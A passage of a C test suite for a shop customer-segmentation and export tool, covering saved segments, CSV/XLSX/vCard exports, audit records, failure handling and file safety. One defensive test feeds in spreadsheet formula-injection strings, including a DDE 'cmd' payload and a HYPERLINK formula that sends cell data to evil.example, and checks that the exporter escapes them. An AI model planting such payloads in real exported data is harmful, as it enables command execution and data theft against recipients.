  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"next_due\",\"op\":\"between\",\"value\":[\"2026-04-01\"]}]}",
                  "conditions[0].value must be a list of two dates written YYYY-MM-DD, [first, last].");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"next_due\",\"op\":\"on\",\"value\":\"soon\"}]}",
                  "conditions[0].value must be a date written YYYY-MM-DD.");
}

static void
test_saved (Fixture       *f,
            gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) list = siyu_segments_list (f->shop, &error);
  g_autoptr(JsonNode) definition = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"}]}");
  g_autoptr(JsonNode) got = NULL;
  g_autofree char *text = NULL;
  JsonObject *first;
  gint64 id, builtin, copy;

  g_assert_no_error (error);
  g_assert_cmpuint (json_array_get_length (json_node_get_array (list)), ==, 7);
  first = json_array_get_object_element (json_node_get_array (list), 0);
  g_assert_cmpstr (json_object_get_string_member (first, "name"), ==, "Dormant high spenders");
  g_assert_cmpstr (json_object_get_string_member (first, "name_zh"), ==, "沉睡的高消费客户");
  g_assert_true (json_object_get_boolean_member (first, "builtin"));

  id = siyu_segment_create (f->shop, " VIP 客户 ", definition, &error);
  g_assert_no_error (error);
  g_assert_cmpint (id, ==, 8);
  g_assert_cmpint (siyu_segment_lookup (f->shop, "VIP 客户", &error), ==, 8);
  g_assert_cmpint (siyu_segment_create (f->shop, "VIP 客户", definition, &error), ==, 0);
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_EXISTS);
  g_clear_error (&error);
  g_assert_cmpint (siyu_segment_create (f->shop, "Champions", definition, &error), ==, 0);
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_EXISTS);
  g_clear_error (&error);

  g_assert_true (siyu_segment_rename (f->shop, id, "贵宾", &error));
  g_assert_no_error (error);
  g_clear_pointer (&definition, json_node_unref);
  definition = parse ("{\"match\":\"any\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"},"
                      "{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"}]}");
  g_assert_true (siyu_segment_update (f->shop, id, definition, &error));
  g_assert_no_error (error);
  got = siyu_segment_dup_definition (f->shop, id, &error);
  text = json_to_string (got, FALSE);
  g_assert_cmpstr (text, ==, "{\"match\":\"any\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"},"
                             "{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"}]}");

  /* Built-in ones stay; a copy of one is the owner's to change. */
  builtin = siyu_segment_lookup (f->shop, "沉睡的高消费客户", &error);
  g_assert_cmpint (builtin, ==, 1);
  g_assert_false (siyu_segment_delete (f->shop, builtin, &error));
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_BUILTIN);
  g_clear_error (&error);
  g_assert_false (siyu_segment_rename (f->shop, builtin, "x", &error));
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_BUILTIN);
  g_clear_error (&error);
  copy = siyu_segment_duplicate (f->shop, builtin, NULL, &error);
  g_assert_no_error (error);
  g_clear_pointer (&got, json_node_unref);
  got = siyu_segment_get (f->shop, copy, &error);
  g_assert_cmpstr (json_object_get_string_member (json_node_get_object (got), "name"), ==,
                   "Dormant high spenders (copy)");
  g_assert_cmpint (siyu_segment_duplicate (f->shop, builtin, NULL, &error), ==, copy + 1);
  g_assert_true (siyu_segment_delete (f->shop, copy, &error));
  g_assert_true (siyu_segment_delete (f->shop, id, &error));
  g_assert_no_error (error);
  g_assert_cmpint (siyu_segment_lookup (f->shop, "贵宾", &error), ==, 0);
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_NOT_FOUND);
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop),
                                      "SELECT count (*) FROM audit_log WHERE object_kind = 'segment'", NULL), ==, 7);
}

static gint64
everyone (Fixture *f)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse ("{\"match\":\"all\",\"conditions\":[]}");
  gint64 id = siyu_segment_create (f->shop, "Everyone", node, &error);

  g_assert_no_error (error);
  return id;
}

static char *
export_to (SiyuShop                *shop,
           const char              *dir,
           gint64                   segment,
           const char              *name,
           const SiyuExportOptions *options,
           SiyuExportResult        *result)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (dir, name, NULL);

  g_assert_true (siyu_export_segment (shop, segment, path, options, result, &error));
  g_assert_no_error (error);

  return siyu_test_read_file (path, NULL);
}

static char *
export (Fixture                 *f,
        gint64                   segment,
        const char              *name,
        const SiyuExportOptions *options,
        SiyuExportResult        *result)
{
  return export_to (f->shop, f->dir, segment, name, options, result);
}

static void
test_export_text (Fixture       *f,
                  gconstpointer  data)
{
  gint64 segment = everyone (f);
  const char * const fields[] = { "id", "name", "phone", "city", "tags", "net_spend", NULL };
  SiyuExportOptions options = { SIYU_EXPORT_CSV, fields, FALSE, 0.0, 0, 0, 0 };
  SiyuExportResult result;
  g_autofree char *csv = NULL;
  g_autofree char *masked = NULL;
  g_autofree char *vcard = NULL;
  g_autofree char *phones = NULL;
  g_autofree char *phones_masked = NULL;

  /* 3 has no consent and 4 asked not to be contacted. */
  csv = export (f, segment, "out.csv", &options, &result);
  g_assert_cmpstr (csv, ==,
                   "\xEF\xBB\xBFID,Name,Phone,City,Tags,Net spend\r\n"
                   "1,王芳,13800138000,杭州,VIP,410.00\r\n"
                   "2,\"李雷, \"\"Lei\"\"; a\\b\",13912345678,上海,,999.00\r\n");
  g_assert_cmpint (result.matched, ==, 4);
  g_assert_cmpint (result.excluded, ==, 2);
  g_assert_cmpint (result.exported, ==, 2);
  g_assert_cmpint (result.held_out, ==, 0);
  g_assert_cmpint (result.touch_id, ==, 1);

  options.mask_phones = TRUE;
  options.fields = NULL;
  masked = export (f, segment, "masked.csv", &options, &result);
  g_assert_cmpstr (masked, ==,
                   "\xEF\xBB\xBFID,Name,Phone,City,Stage,Tier,Last order,Net spend\r\n"
                   "1,王芳,138****8000,杭州,Growing,Regular,2026-03-25,410.00\r\n"
                   "2,\"李雷, \"\"Lei\"\"; a\\b\",139****5678,上海,Dormant,,2025-12-15,999.00\r\n");

  options.format = SIYU_EXPORT_VCARD;
  options.mask_phones = FALSE;
  vcard = export (f, segment, "out.vcf", &options, &result);
  g_assert_cmpstr (vcard, ==,
                   "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:王芳\r\nN:王芳;;;;\r\nTEL;TYPE=CELL:+8613800138000\r\nEND:VCARD\r\n"
                   "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:李雷\\, \"Lei\"\\; a\\\\b\r\nN:李雷\\, \"Lei\"\\; a\\\\b;;;;\r\n"
                   "TEL;TYPE=CELL:+8613912345678\r\nEMAIL:li.lei@example.com\r\nEND:VCARD\r\n");

  options.format = SIYU_EXPORT_PHONES;
  phones = export (f, segment, "phones.txt", &options, &result);
  g_assert_cmpstr (phones, ==, "13800138000\r\n13912345678\r\n");
  options.mask_phones = TRUE;
  phones_masked = export (f, segment, "phones-masked.txt", &options, &result);
  g_assert_cmpstr (phones_masked, ==, "138****8000\r\n139****5678\r\n");
  g_assert_cmpint (result.touch_id, ==, 5);

  /* Every export is a touch and a line of the audit log, without personal data. */
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop),
                                      "SELECT count (*) FROM touches WHERE kind = 'export' AND segment_id = 8", NULL), ==, 5);
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop),
                                      "SELECT count (*) FROM touch_members WHERE touch_id = 1 AND holdout = 0", NULL), ==, 2);
  {
    sqlite3_stmt *stmt;
    g_autofree char *detail = NULL;

    g_assert_cmpint (sqlite3_prepare_v2 (siyu_db_get_handle (siyu_shop_get_db (f->shop)),
                                         "SELECT actor, detail FROM audit_log WHERE action = 'export' ORDER BY id LIMIT 1",
                                         -1, &stmt, NULL), ==, SQLITE_OK);
    g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
    g_assert_cmpstr ((const char *) sqlite3_column_text (stmt, 0), ==, g_get_user_name ());
    detail = g_strdup ((const char *) sqlite3_column_text (stmt, 1));
    sqlite3_finalize (stmt);
    g_assert_cmpstr (detail, ==, "{\"segment\":\"Everyone\",\"touch_id\":1,\"format\":\"csv\",\"count\":2,"
                                 "\"excluded\":2,\"held_out\":0,\"fields\":[\"id\",\"name\",\"phone\",\"city\","
                                 "\"tags\",\"net_spend\"],\"masked\":false,\"unknown_consent\":\"unset\","
                                 "\"file\":\"out.csv\"}");
  }
}

static char *
read_zip_member (const char *path,
                 const char *member)
{
  struct archive *zip = archive_read_new ();
  struct archive_entry *entry;
  GString *out = NULL;

  archive_read_support_format_zip (zip);
  g_assert_cmpint (archive_read_open_filename (zip, path, 16384), ==, ARCHIVE_OK);
  while (archive_read_next_header (zip, &entry) == ARCHIVE_OK)
    {
      char buffer[4096];
      la_ssize_t n;

      if (!g_str_equal (archive_entry_pathname (entry), member))
        continue;
      out = g_string_new (NULL);
      while ((n = archive_read_data (zip, buffer, sizeof buffer)) > 0)
        g_string_append_len (out, buffer, n);
      break;
    }
  archive_read_free (zip);
  g_assert_nonnull (out);

  return g_string_free (out, FALSE);
}

static void
test_export_xlsx (Fixture       *f,
                  gconstpointer  data)
{
  gint64 segment = everyone (f);
  const char * const fields[] = { "id", "name", "phone", "net_spend", NULL };
  SiyuExportOptions options = { SIYU_EXPORT_XLSX, fields, TRUE, 0.0, 0, 0, 0 };
  SiyuExportResult result;
  g_autofree char *path = g_build_filename (f->dir, "out.xlsx", NULL);
  g_autofree char *contents = export (f, segment, "out.xlsx", &options, &result);
  g_autofree char *sheet = read_zip_member (path, "xl/worksheets/sheet1.xml");

  g_assert_cmpint (result.exported, ==, 2);
  g_assert_true (g_str_has_prefix (contents, "PK"));
  g_assert_nonnull (strstr (sheet, "<c r=\"A1\" s=\"1\" t=\"inlineStr\"><is><t>ID</t></is></c>"));
  g_assert_nonnull (strstr (sheet, "<c r=\"A2\"><v>1</v></c><c r=\"B2\" t=\"inlineStr\"><is><t>王芳</t></is></c>"
                                   "<c r=\"C2\" t=\"inlineStr\"><is><t>138****8000</t></is></c>"
                                   "<c r=\"D2\" s=\"2\"><v>410</v></c>"));
  g_assert_nonnull (strstr (sheet, "<t>李雷, \"Lei\"; a\\b</t>"));
  g_assert_null (strstr (sheet, "赵敏"));
  g_assert_null (strstr (sheet, "周杰"));
}

static guint
count_files (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (d) != NULL)
    n++;
  return n;
}

static void
test_export_failures (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  gint64 segment = everyone (f);
  SiyuExportOptions options = { SIYU_EXPORT_CSV, NULL, FALSE, 0.0, 0, 0, 0 };
  g_autofree char *out_dir = g_build_filename (f->dir, "out", NULL);
  g_autofree char *path = g_build_filename (out_dir, "list.csv", NULL);
  g_autofree char *missing = g_build_filename (f->dir, "no-such-folder", "list.csv", NULL);
  g_autofree char *under_file = g_build_filename (f->shop != NULL ? f->path : "", "list.csv", NULL);
  g_autofree char *kept = NULL;
  const char * const bad_fields[] = { "id", "password", NULL };

  g_assert_cmpint (g_mkdir (out_dir, 0700), ==, 0);

  g_assert_false (siyu_export_segment (f->shop, segment, missing, &options, NULL, &error));
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  g_assert_true (g_str_has_prefix (error->message, "Cannot write in the folder "));
  g_clear_error (&error);
  g_assert_false (siyu_export_segment (f->shop, segment, under_file, &options, NULL, &error));
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  g_clear_error (&error);

  /* A read-only folder (root writes anyway). */
  if (geteuid () != 0)
    {
      g_autofree char *ro = g_build_filename (f->dir, "ro", NULL);
      g_autofree char *ro_path = g_build_filename (ro, "list.csv", NULL);

      g_assert_cmpint (g_mkdir (ro, 0500), ==, 0);
      g_assert_false (siyu_export_segment (f->shop, segment, ro_path, &options, NULL, &error));
      g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
      g_clear_error (&error);
      g_assert_false (g_file_test (ro_path, G_FILE_TEST_EXISTS));
    }

  options.fields = bad_fields;
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, NULL, &error));
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_INVALID);
  g_clear_error (&error);
  options.fields = NULL;

  /* The disk fills up half way: an earlier file of the same name stays
   * as it was, and no temporary file is left. */
  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  siyu_export_set_write_limit_for_tests (100);
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, NULL, &error));
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, "list.csv"));
  g_assert_nonnull (strstr (error->message, g_strerror (ENOSPC)));
  g_clear_error (&error);
  kept = siyu_test_read_file (path, NULL);
  g_assert_cmpstr (kept, ==, "old");
  g_assert_cmpuint (count_files (out_dir), ==, 1);

  options.format = SIYU_EXPORT_XLSX;
  g_remove (path);
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, NULL, &error));
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  g_clear_error (&error);
  g_assert_cmpuint (count_files (out_dir), ==, 0);
  siyu_export_set_write_limit_for_tests (-1);

  /* Nothing was recorded. */
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop), "SELECT count (*) FROM touches", NULL), ==, 0);
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop),
                                      "SELECT count (*) FROM audit_log WHERE action = 'export'", NULL), ==, 0);

  /* A segment that matches nobody is no export: it says why and writes nothing. */
  {
    g_autoptr(JsonNode) node = parse ("{\"match\":\"any\",\"conditions\":[]}");
    gint64 none = siyu_segment_create (f->shop, "Nobody", node, &error);
    g_autofree char *empty = g_build_filename (f->dir, "empty.csv", NULL);
    SiyuExportResult result;

    options.format = SIYU_EXPORT_CSV;
    g_assert_false (siyu_export_segment (f->shop, none, empty, &options, &result, &error));
    g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_NOBODY);
    g_assert_cmpstr (error->message, ==, "Nobody was exported: no one is in this list today.");
    g_clear_error (&error);
    g_assert_false (g_file_test (empty, G_FILE_TEST_EXISTS));
    g_assert_cmpint (result.matched, ==, 0);
    g_assert_cmpint (result.exported, ==, 0);
    g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop), "SELECT count (*) FROM touches", NULL), ==, 0);
  }
}

/* Issue 15, item 7: the attack strings of the review, in every field a
 * person can fill, come out of a CSV export as text. */
static const char * const attacks[] = {
  "-1+cmd|' /C calc'!A0",
  "+1+HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "=1+1",
  "@SUM(1,2)",
  "\t=1+1",
  "-1250",
};

static gint64
add_attacker (SiyuShop   *shop,
              const char *name,
              const char *phone,
              const char *city)
{
  g_autoptr(SiyuIngest) ingest = siyu_ingest_new (shop);

  return add (ingest, shop, name, phone, NULL, city, 1, 0, NULL);
}

static void
test_csv_guard (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"=HYPERLINK(1)\"}]}");
  const char * const fields[] = { "id", "name", "phone", "city", "tags", NULL };
  SiyuExportOptions options = { SIYU_EXPORT_CSV, fields, FALSE, 0.0, 0, 0, 0 };
  SiyuExportResult result;
  g_autofree char *csv = NULL;
  g_autofree char *xlsx = NULL;
  g_autofree char *sheet = NULL;
  g_autofree char *xlsx_path = g_build_filename (f->dir, "attack.xlsx", NULL);
  g_autoptr(SiyuIngest) ingest = siyu_ingest_new (f->shop);
  gint64 segment;

  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      g_autofree char *phone = g_strdup_printf ("1390000000%u", i);
      gint64 id = add_attacker (f->shop, attacks[i], phone, attacks[(i + 1) % G_N_ELEMENTS (attacks)]);

      g_assert_cmpint (id, ==, 6 + i);
      g_assert_true (siyu_ingest_tag (ingest, id, "=HYPERLINK(1)", "manual", 1, &error));
      g_assert_no_error (error);
    }
  /* A foreign number keeps its +, and so gets the guard too. */
  {
    gint64 id = add_attacker (f->shop, "Ann", "+447911123456", "London");

    g_assert_true (siyu_ingest_tag (ingest, id, "=HYPERLINK(1)", "manual", 1, &error));
  }
  segment = siyu_segment_create (f->shop, "Attackers", node, &error);
  g_assert_no_error (error);

  csv = export (f, segment, "attack.csv", &options, &result);
  g_assert_cmpint (result.exported, ==, 7);
  g_assert_cmpstr (csv, ==,
                   "\xEF\xBB\xBFID,Name,Phone,City,Tags\r\n"
                   "6,'-1+cmd|' /C calc'!A0,13900000000,\"'+1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'=HYPERLINK(1)\r\n"
                   "7,\"'+1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",13900000001,'=1+1,'=HYPERLINK(1)\r\n"
                   "8,'=1+1,13900000002,\"'@SUM(1,2)\",'=HYPERLINK(1)\r\n"
                   "9,\"'@SUM(1,2)\",13900000003,\"'\t=1+1\",'=HYPERLINK(1)\r\n"
                   "10,\"'\t=1+1\",13900000004,-1250,'=HYPERLINK(1)\r\n"
                   "11,-1250,13900000005,'-1+cmd|' /C calc'!A0,'=HYPERLINK(1)\r\n"
                   "12,Ann,'+447911123456,London,'=HYPERLINK(1)\r\n");

  /* XLSX writes text cells, never formulas: the same strings as they are. */
  options.format = SIYU_EXPORT_XLSX;
  xlsx = export (f, segment, "attack.xlsx", &options, &result);
  sheet = read_zip_member (xlsx_path, "xl/worksheets/sheet1.xml");
  g_assert_null (strstr (sheet, "<f>"));
  g_assert_nonnull (strstr (sheet, "<c r=\"B2\" t=\"inlineStr\"><is><t>-1+cmd|' /C calc'!A0</t></is></c>"));
  g_assert_nonnull (strstr (sheet, "<c r=\"C8\" t=\"inlineStr\"><is><t>+447911123456</t></is></c>"));
  g_assert_nonnull (strstr (sheet, "<c r=\"C2\" t=\"inlineStr\"><is><t>13900000000</t></is></c>"));
}

/* Issue 15, item 8: every format is written 0600, and a link planted at
 * the target is replaced, never written through. */
static void
test_export_files (Fixture       *f,
                   gconstpointer  data)
{
  static const char * const names[] = { "out.csv", "out.xlsx", "out.vcf", "out.txt" };
  gint64 segment = everyone (f);
  g_autofree char *victim = g_build_filename (f->dir, "victim", NULL);

  g_assert_true (g_file_set_contents (victim, "keep", -1, NULL));
  for (guint format = SIYU_EXPORT_CSV; format <= SIYU_EXPORT_PHONES; format++)
    {
      SiyuExportOptions options = { format, NULL, FALSE, 0.0, 0, 0, 0 };
      g_autofree char *path = g_build_filename (f->dir, names[format], NULL);
      g_autofree char *kept = NULL;
      GStatBuf st;

      g_assert_cmpint (symlink (victim, path), ==, 0);
      g_free (export (f, segment, names[format], &options, NULL));
      g_assert_cmpint (g_lstat (path, &st), ==, 0);
      g_assert_true (S_ISREG (st.st_mode));
      g_assert_cmpint (st.st_mode & 0777, ==, 0600);
      kept = siyu_test_read_file (victim, NULL);
      g_assert_cmpstr (kept, ==, "keep");
    }
  /* The shop file and its -wal and -shm, the victim and the four exports:
   * no temporary file. */
  g_assert_cmpuint (count_files (f->dir), ==, 8);
}

typedef struct {
  const char *path;
  gboolean    refuse;
  guint       calls;
} CommitHook;

/* Runs at the export's commit: either refuses it, as a failing disk would,
 * or puts a folder where the file is about to be renamed to. */
static int
commit_hook (void *data)
{
  CommitHook *hook = data;
  g_autofree char *inside = NULL;

  if (hook->refuse)
    return 1;
  /* The second commit is the one that takes the record back. */
  if (hook->calls++ > 0)
    return 0;
  g_assert_cmpint (g_mkdir (hook->path, 0700), ==, 0);
  inside = g_build_filename (hook->path, "keep", NULL);
  g_assert_true (g_file_set_contents (inside, "", -1, NULL));

  return 0;
}

static gint64
count_of (SiyuShop   *shop,
          const char *sql)
{
  return siyu_db_query_int (siyu_shop_get_db (shop), sql, NULL);
}

/* Issue 18, item 2: the record is committed before the file is renamed,
 * and a failed rename takes the record back; a failed commit leaves no
 * file.  Either way no temporary file stays. */
static void
test_export_then_audit (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  gint64 segment = everyone (f);
  SiyuExportOptions options = { SIYU_EXPORT_CSV, NULL, FALSE, 0.0, 0, 0, 0 };
  g_autofree char *out_dir = g_build_filename (f->dir, "out", NULL);
  g_autofree char *path = g_build_filename (out_dir, "list.csv", NULL);
  sqlite3 *handle = siyu_db_get_handle (siyu_shop_get_db (f->shop));
  CommitHook hook = { path, FALSE, 0 };
  SiyuExportResult result;

  g_assert_cmpint (g_mkdir (out_dir, 0700), ==, 0);

  /* The rename fails after the commit. */
  sqlite3_commit_hook (handle, commit_hook, &hook);
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
  sqlite3_commit_hook (handle, NULL, NULL);
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, "list.csv"));
  g_assert_null (strstr (error->message, ".siyu-"));
  g_clear_error (&error);
  g_assert_cmpint (result.touch_id, ==, 0);
  g_assert_cmpint (result.exported, ==, 0);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touch_members"), ==, 0);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 0);
  g_assert_true (g_file_test (path, G_FILE_TEST_IS_DIR));
  g_assert_cmpuint (count_files (out_dir), ==, 1);
  g_assert_cmpuint (hook.calls, ==, 2);
  {
    g_autofree char *inside = g_build_filename (path, "keep", NULL);

    g_assert_cmpint (g_remove (inside), ==, 0);
    g_assert_cmpint (g_rmdir (path), ==, 0);
  }

  /* The commit fails: no file under the name, none hidden. */
  hook.refuse = TRUE;
  sqlite3_commit_hook (handle, commit_hook, &hook);
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
  sqlite3_commit_hook (handle, NULL, NULL);
  g_assert_nonnull (error);
  g_clear_error (&error);
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_cmpuint (count_files (out_dir), ==, 0);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 0);

  /* Cancelled: no file, none hidden, nothing recorded. */
  {
    g_autoptr(GCancellable) cancellable = g_cancellable_new ();

    g_cancellable_cancel (cancellable);
    options.cancellable = cancellable;
    g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
    g_clear_error (&error);
    options.cancellable = NULL;
    g_assert_cmpuint (count_files (out_dir), ==, 0);
    g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
  }

  /* Then it works: one touch, one audit line, one file. */
  g_assert_true (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 1);
  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 1);
  g_assert_cmpuint (count_files (out_dir), ==, 1);
}

/* Issue 18, item 5: a full disk during an XLSX export names the owner's
 * file and says there is no space left. */
static void
test_export_xlsx_full (Fixture       *f,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  gint64 segment = everyone (f);
  SiyuExportOptions options = { SIYU_EXPORT_XLSX, NULL, FALSE, 0.0, 0, 0, 0 };
  g_autofree char *path = g_build_filename (f->dir, "客户.xlsx", NULL);

  siyu_export_set_write_limit_for_tests (100);
  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, NULL, &error));
  siyu_export_set_write_limit_for_tests (-1);
  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
  {
    g_autofree char *expected = g_strdup_printf ("Could not write %s: %s", path, g_strerror (ENOSPC));

    g_assert_cmpstr (error->message, ==, expected);
  }
  g_assert_cmpuint (count_files (f->dir), ==, 3);
}

static void
touch_file (const char *path,
            gint64      mtime)
{
  struct timeval times[2] = { { mtime, 0 }, { mtime, 0 } };

  g_assert_true (g_file_set_contents (path, "13800138000\r\n", -1, NULL));
  g_assert_cmpint (g_chmod (path, 0600), ==, 0);
  g_assert_cmpint (utimes (path, times), ==, 0);
}

/* Issue 18, item 2: what a killed export left beside the shop, or in the
 * folder exports go to, is removed when the shop is opened again, once it
 * is older than a minute; nothing else is. */
static void
test_export_leftovers (Fixture       *f,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  gint64 now = g_get_real_time () / G_USEC_PER_SEC;
  g_autofree char *folder = g_build_filename (f->dir, "exports", NULL);
  g_autofree char *stale = g_build_filename (f->dir, ".list.csv.siyu-Ab12Cd", NULL);
  g_autofree char *stale_away = g_build_filename (folder, ".龙井.xlsx.siyu-x9Y8z7", NULL);
  g_autofree char *fresh = g_build_filename (f->dir, ".list.csv.siyu-Zz99Zz", NULL);
  g_autofree char *other = g_build_filename (f->dir, ".list.csv.X1b2C3", NULL);
  g_autofree char *owners = g_build_filename (f->dir, "list.csv.siyu-Ab12Cd", NULL);
  g_autofree char *link = g_build_filename (f->dir, ".link.csv.siyu-Qq11Qq", NULL);
  SiyuExportPrefs prefs = { SIYU_EXPORT_CSV, NULL, FALSE, folder };

  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
  g_assert_true (siyu_export_save_prefs (f->shop, &prefs, &error));
  g_assert_no_error (error);
  touch_file (stale, now - 120);
  touch_file (stale_away, now - 3600);
  touch_file (fresh, now - 10);
  touch_file (other, now - 3600);
  touch_file (owners, now - 3600);
  g_assert_cmpint (symlink (other, link), ==, 0);

  g_clear_object (&f->shop);
  f->shop = siyu_shop_open (f->path, &error);
  g_assert_no_error (error);

  g_assert_false (g_file_test (stale, G_FILE_TEST_EXISTS));
  g_assert_false (g_file_test (stale_away, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (fresh, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (other, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (owners, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
}

/* n conditions, each @pattern with its number in place of the #. */
static char *
conditions (guint       n,
            const char *pattern,
            guint       offset)
{
  g_auto(GStrv) parts = g_strsplit (pattern, "#", 2);
  GString *out = g_string_new (NULL);

  for (guint i = 0; i < n; i++)
    {
      if (i > 0)
        g_string_append_c (out, ',');
      g_string_append (out, parts[0]);
      if (parts[1] != NULL)
        g_string_append_printf (out, "%u%s", i + offset, parts[1]);
    }

  return g_string_free (out, FALSE);
}

static void
assert_count (SiyuShop   *shop,
              const char *json,
              gint64      expected)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse (json);
  gint64 total = -1, unreachable = -1;

  g_assert_true (siyu_segment_check (node, &error));
  g_assert_no_error (error);
  g_assert_true (siyu_segment_count (shop, node, &total, &unreachable, &error));
  g_assert_no_error (error);
  g_assert_cmpint (total, ==, expected);
}

/* Issue 15, item 10: a segment at every size the editor allows is counted
 * by SQLite: 1,000 conditions in one group, any or all, of the costliest
 * kinds, and groups nested 16 deep. */
static void
test_limits (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *ors = conditions (999, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"城市#\"}", 0);
  g_autofree char *ands = conditions (1000, "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"城市#\"}", 0);
  g_autofree char *deep_kind = conditions (1000, "{\"field\":\"tier\",\"op\":\"at_least\",\"value\":\"T#\"}", 0);
  g_autofree char *mixed = NULL;
  g_autofree char *json = NULL;
  GString *nested;
  gint64 id;

  /* 999 cities nobody lives in, and 上海: 2 (李雷; 钱多 is erased); one
   * IN list of 1,000 values. */
  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s,{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"}]}", ors);
  assert_count (f->shop, json, 1);
  {
    g_autoptr(JsonNode) node = parse (json);
    g_autoptr(SiyuSegmentQuery) query = siyu_segment_query_new (f->shop, node, &error);

    g_assert_no_error (error);
    g_assert_true (g_str_has_prefix (siyu_segment_query_get_condition (query), "((c.city IN (?, ?, "));
    g_assert_cmpuint (siyu_segment_query_get_n_params (query), ==, 1000);
  }
  /* Merged or not, the same people: any of 杭州, dormant, 上海; none of 上海, 杭州. */
  assert_members (f->shop, "{\"match\":\"any\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"杭州\"},"
                  "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"dormant\"},"
                  "{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"},"
                  "{\"field\":\"stage\",\"op\":\"in\",\"value\":[\"prospect\"]}]}", "1,2,3");
